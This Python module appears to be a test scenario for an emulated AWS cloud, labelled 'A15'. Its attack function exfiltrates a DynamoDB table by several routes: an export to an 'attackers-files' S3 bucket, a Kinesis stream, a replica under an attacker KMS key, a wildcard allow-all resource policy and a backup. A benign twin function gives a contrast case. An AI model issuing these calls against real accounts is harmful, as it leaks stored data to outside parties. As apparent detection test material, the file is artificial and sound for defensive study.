"""A15: have the service carry a table's items off: an export, a stream, a replica, a policy, a backup.

Why each request names the text as well: the emulated cloud takes them and delivers nothing, so the request is
all that there is to see.
"""

import json


def attack(hands):
    text, table = hands.plain(), hands.arn("dynamodb", "table/moved-notes")
    recovered(hands, "moved-notes")
    there = {"S3Bucket": "attackers-files", "S3Prefix": text}
    hands.call("dynamodb", "ExportTableToPointInTime", TableArn=table, **there)
    streamed(hands, "moved-notes", f"attackers-{text}")
    replicas = [{"Create": {"RegionName": "eu-west-1", "KMSMasterKeyId": f"alias/attackers-{text}"}}]
    hands.call("dynamodb", "UpdateTable", TableName="moved-notes", ReplicaUpdates=replicas)
    hands.call("dynamodb", "PutResourcePolicy", ResourceArn=table, Policy=opened(table, text))
    hands.call("dynamodb", "CreateBackup", TableName="moved-notes", BackupName=text)


def twin(hands):
    recovered(hands, "granted-notes")
    streamed(hands, "granted-notes", "kept-flow")
    text, table = hands.secret(), hands.arn("dynamodb", "table/granted-notes")
    note = {"id": {"S": hands.trial}, "text": {"S": text}}
    hands.call("dynamodb", "PutItem", TableName="granted-notes", Item=note)
    there = {"S3Bucket": "granted-files", "S3Prefix": text}
    hands.call("dynamodb", "ExportTableToPointInTime", TableArn=table, **there)


def recovered(hands, name):
    """Older states are kept, which an export needs."""
    kept = {"PointInTimeRecoveryEnabled": True}
    hands.call("dynamodb", "UpdateContinuousBackups", TableName=name, PointInTimeRecoverySpecification=kept)


def streamed(hands, name, stream):
    """Every change as a record of a stream."""
    there = {"TableName": name, "StreamArn": hands.arn("kinesis", f"stream/{stream}")}
    hands.call("dynamodb", "EnableKinesisStreamingDestination", **there)


def opened(table, text):
    """A policy that lets everybody in; what it is called is read by whoever may read it."""
    lets = {"Sid": text, "Effect": "Allow", "Principal": "*", "Action": "dynamodb:*", "Resource": table}
    return json.dumps({"Version": "2012-10-17", "Statement": [lets]})
